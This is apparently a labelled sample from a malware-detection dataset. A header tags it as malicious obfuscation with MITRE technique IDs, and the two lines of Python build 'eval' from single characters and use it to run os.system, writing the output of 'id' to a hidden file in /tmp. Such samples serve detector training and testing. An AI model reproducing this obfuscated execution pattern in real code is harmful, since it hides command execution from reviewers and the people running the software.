# label: malicious family=obfuscation techniques=T1027,T1033,T1059.004,T1059.006,T1564.001 lines=2-3
g = __builtins__.__dict__["".join(["e", "v", "a", "l"])] if hasattr(__builtins__, "__dict__") else __builtins__["eval"]
g("__import__('os').system('id > /tmp/.o')")
